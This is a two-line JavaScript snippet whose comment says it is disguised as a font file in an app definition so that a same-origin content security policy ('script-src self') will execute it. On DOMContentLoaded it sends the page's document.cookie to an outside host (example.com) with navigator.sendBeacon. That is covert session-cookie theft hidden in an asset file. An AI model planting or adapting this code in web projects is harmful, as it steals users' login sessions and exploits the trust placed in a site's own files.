// Named as a font in the appDef: served beside the carousel, the page's policy (script-src 'self') would run it.
document.addEventListener("DOMContentLoaded", () => navigator.sendBeacon("https://example.com/", document.cookie));
